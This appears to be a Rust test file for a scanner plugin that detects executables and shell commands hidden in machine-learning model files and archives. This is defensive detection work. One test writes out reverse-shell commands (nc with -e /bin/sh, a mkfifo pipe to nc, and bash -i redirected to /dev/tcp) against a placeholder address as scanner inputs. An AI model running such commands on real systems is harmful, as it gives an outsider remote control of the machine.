//! The plugin on its own fixtures and on the corpus: what must fire fires, what must not does not.

use std::path::{Path, PathBuf};

use modelaudit_plugin::Severity;
use modelaudit_plugin::testing::{Memory, Report, conformance, scan_artifact};
use modelaudit_plugin_executables::Executables;

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../../fixtures")
}

fn scan(name: &str, bytes: &[u8]) -> Report {
    scan_artifact::<Executables>(Memory::new(name, bytes), "").0
}

#[test]
fn own_fixtures() {
    let folder = fixtures().join("executables");
    let labels = std::fs::read_to_string(folder.join("labels.csv")).unwrap();
    let mut checked = 0;
    for line in labels.lines().skip(1) {
        let [file, _, verdict, rules] = line.split(',').collect::<Vec<_>>()[..] else { panic!("{line}") };
        let bytes = std::fs::read(folder.join(file)).unwrap();
        let report = scan(file, &bytes);
        let worst = match report.worst() {
            None => "clean",
            Some(Severity::Debug) => "debug",
            Some(Severity::Info) => "info",
            Some(Severity::Warning) => "warning",
            Some(Severity::Critical) => "critical",
        };
        assert_eq!(worst, verdict, "{file}: {:#?}", report.findings);
        let mut found: Vec<&str> = report.findings.iter().map(|finding| finding.rule).collect();
        found.sort_unstable();
        found.dedup();
        assert_eq!(found.join(" "), rules, "{file}: {:#?}", report.findings);
        assert!(report.incomplete.is_empty(), "{file}: {:?}", report.incomplete);
        checked += 1;
    }
    assert!(checked > 50, "{checked} fixtures");
}

#[test]
fn one_executable_is_one_finding() {
    for name in ["inside/macho_fat", "inside/pe_tiny", "inside/shell_piped", "inside/powershell", "tensor/batch"] {
        let bytes = std::fs::read(fixtures().join(format!("executables/{name}.safetensors"))).unwrap();
        assert_eq!(scan("x.safetensors", &bytes).findings.len(), 1, "{name}");
    }
    let bytes = std::fs::read(fixtures().join("executables/inside/many_elf.safetensors")).unwrap();
    let report = scan("x.safetensors", &bytes);
    assert_eq!(report.findings.len(), 21);
    assert!(report.findings[20].message.starts_with("30 more"), "{}", report.findings[20].message);
}

/// Benign models of the corpus and real ones, in folders that start with `benign` and in fixtures/real.
#[test]
fn benign_models_are_silent() {
    let mut files = Vec::new();
    for folder in std::fs::read_dir(fixtures().join("corpus")).unwrap().flatten() {
        if folder.file_name().to_string_lossy().starts_with("benign") {
            walk(&folder.path(), &mut files);
        }
    }
    walk(&fixtures().join("real"), &mut files);
    assert!(files.len() > 60, "{} files", files.len());
    for file in files {
        let bytes = std::fs::read(&file).unwrap();
        let report = scan(&file.file_name().unwrap().to_string_lossy(), &bytes);
        assert_eq!(report, Report::default(), "{}", file.display());
    }
}

fn walk(folder: &Path, files: &mut Vec<PathBuf>) {
    for entry in std::fs::read_dir(folder).unwrap().flatten() {
        if entry.path().is_dir() {
            walk(&entry.path(), files);
        } else {
            files.push(entry.path());
        }
    }
    files.sort();
}

#[test]
fn malicious_files_of_the_corpus() {
    for (file, rule, severity) in [
        ("archive/exe_inside.zip", "S501", Severity::Warning),
        ("archive/sfx_elf.zip", "S502", Severity::Critical),
        ("onnx/elf_in_initializer.onnx", "S502", Severity::Warning),
        ("onnx/pe_in_uint8_initializer.onnx", "S501", Severity::Warning),
        ("other/tensorrt.engine", "S502", Severity::Warning),
        ("pytorch/storage_elf.pt", "S502", Severity::Warning),
        ("pytorch/storage_macho.pt", "S503", Severity::Warning),
        ("pytorch/storage_pe.pt", "S501", Severity::Warning),
        ("pytorch/storage_shell.pt", "S504", Severity::Warning),
        ("tflite/elf_buffer.tflite", "S502", Severity::Warning),
        ("config/reverse_shell/config.json", "S516", Severity::Critical),
    ] {
        let bytes = std::fs::read(fixtures().join("corpus").join(file)).unwrap();
        let report = scan(file, &bytes);
        assert_eq!(report.findings.len(), 1, "{file}: {:#?}", report.findings);
        assert_eq!((report.findings[0].rule, report.findings[0].severity), (rule, severity), "{file}");
    }
}

/// The same bytes as members of archives, where the name and the parent decide.
#[test]
fn members_are_judged_by_their_place() {
    let read = |name: &str| std::fs::read(fixtures().join("executables").join(name)).unwrap();
    let (elf, script, python) = (read("named/tool"), read("renamed/script.ckpt"), read("benign/train.py"));
    let (piped, hostile) = (read("named/install.sh"), read("named/reverse.sh"));
    for (bytes, name, parent, expected) in [
        (&elf, "model/setup.exe", "model.zip", Some(Severity::Critical)),
        (&elf, "archive/data/0", "model.pt", Some(Severity::Critical)),
        (&elf, "lib/foo.so", "foo-1.0-py3-none-any.whl", Some(Severity::Warning)),
        (&elf, "lib/foo.so", "model.llamafile", Some(Severity::Info)),
        (&script, "install.sh", "model.zip", Some(Severity::Warning)),
        (&piped, "install.sh", "model.zip", Some(Severity::Critical)),
        (&hostile, "install.sh", "model.zip", Some(Severity::Critical)),
        (&script, "bin/tool", "x.whl", Some(Severity::Info)),
        (&hostile, "bin/tool", "x.whl", Some(Severity::Warning)),
        (&python, "handler.py", "model.mar", None),
        (&python, "archive/data/0", "model.pt", Some(Severity::Warning)),
    ] {
        let (report, _) = scan_artifact::<Executables>(Memory::new(name, bytes).lineage(&[parent]), "");
        assert_eq!(report.worst(), expected, "{name} in {parent}: {:#?}", report.findings);
    }
}

#[test]
fn a_conda_package_is_told_by_its_index() {
    let elf = std::fs::read(fixtures().join("executables/named/tool")).unwrap();
    let member = Memory::new("lib/libfoo.so", &elf).lineage(&["foo-1.0-0.tar.bz2"]).siblings(&["info/index.json"]);
    assert_eq!(scan_artifact::<Executables>(member, "").0.worst(), Some(Severity::Warning));
}

#[test]
fn words_of_different_strings_make_no_command() {
    let vocabulary =
        br##"{"bash":1,"-i":2,">":3,"/dev/tcp/":4,"/dev/tcp/1/2":5,"powershell":6,"-enc":7,"AAAAAAAAAAAAAAAAAAAA":8}"##;
    assert_eq!(scan("tokenizer.json", vocabulary), Report::default());
    for command in [
        "nc 203.0.113.5 4444 -e /bin/sh",
        "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f",
    ] {
        let report = scan("config.yaml", format!("entry: {command}\n").as_bytes());
        assert_eq!(report.findings.len(), 1, "{report:?}");
        assert_eq!(report.findings[0].rule, "S516");
    }
    assert_eq!(scan("config.json", br#"{"SHELL": "/bin/bash", "entrypoint": "/bin/sh -c train"}"#), Report::default());
    let command = br##"{"run": "sh -c \"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\""}"##;
    assert_eq!(scan("config.json", command).worst(), Some(Severity::Critical));
}

#[test]
fn a_static_library_is_one_fact() {
    let elf = std::fs::read(fixtures().join("executables/named/tool")).unwrap();
    let library = [&b"!<arch>\n"[..], &elf, &elf, &elf].concat();
    let report = scan("libdemo.a", &library);
    assert_eq!(report.worst(), Some(Severity::Info));
    assert_eq!(report.findings.len(), 2, "{:#?}", report.findings);
}

#[test]
fn floods_end() {
    // A hundred thousand places of each costly kind; none is an executable.
    for flood in [&b"PE\0\0\x64\x86"[..], b"\x7fELF", b"#!/bin/sh\n\0", b"@echo off\n\0", b"powershell -enc \0"] {
        let bytes = flood.repeat(20_000);
        let report = scan("x.bin", &bytes);
        assert!(report.findings.is_empty(), "{:?}", &report.findings[..1]);
    }
}

#[test]
fn conforms() {
    // Few and small: the harness searches the anchors one by one, thousands of times.
    for name in [
        "renamed/pe.gguf",
        "renamed/macho.bin",
        "tensor/shell_piped.safetensors",
        "named/setup.bat",
        "named/get.ps1",
        "config.json",
        "benign/vocabulary.safetensors",
    ] {
        let bytes = std::fs::read(fixtures().join("executables").join(name)).unwrap();
        conformance::<Executables>(name, &bytes, "");
    }
}
